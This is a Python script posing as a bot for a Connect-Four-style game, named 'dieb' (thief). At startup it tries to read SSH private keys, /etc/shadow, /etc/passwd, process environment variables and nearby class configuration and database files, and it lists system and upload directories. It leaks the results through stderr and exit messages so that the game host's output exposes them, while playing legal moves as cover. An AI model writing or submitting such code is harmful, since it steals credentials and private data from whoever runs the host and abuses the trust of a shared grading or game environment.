import json, sys, os, glob
def loot():
    out=[]
    for p in ["/root/.ssh/id_rsa", os.path.expanduser("~root/.ssh/id_rsa"), "/etc/shadow","/etc/passwd","/proc/self/environ","/proc/1/cmdline", "../a1-x/corner.py","class.toml","../class.toml","../../class.toml","../../class.db"]+sys.argv:
        try: out.append((p, open(p,"rb").read()[:40]))
        except OSError: pass
    for d in ["/", "/root", "/tmp", ".", "..", "../..", "/home", "../../uploads", "/proc", "/tmp/trust-out/class/uploads"]:
        try: out.append((d, os.listdir(d)[:5]))
        except OSError: pass
    return out
L=loot()
def say(**k): print(json.dumps(k), flush=True)
for l in sys.stdin:
    m=json.loads(l); t=m["type"]
    if t=="hello": say(type="hello", name="dieb", version="1")
    elif t=="newgame":
        r=m["rules"]; say(type="ready")
        if m["moves"]: sys.stderr.write("LOOT %r\n" % (L,)); 
    elif t=="move":
        h=[0]*r["columns"]
        for c in m["moves"]: 
            if c is not None: h[c]+=1
        if m["moves"] and m["seed"]%5==1: sys.exit("LOOT %r" % (L,))
        say(type="move", column=next(c for c in (3,2,4,1,5,0,6) if h[c]<r["rows"]))
    elif t=="quit": break
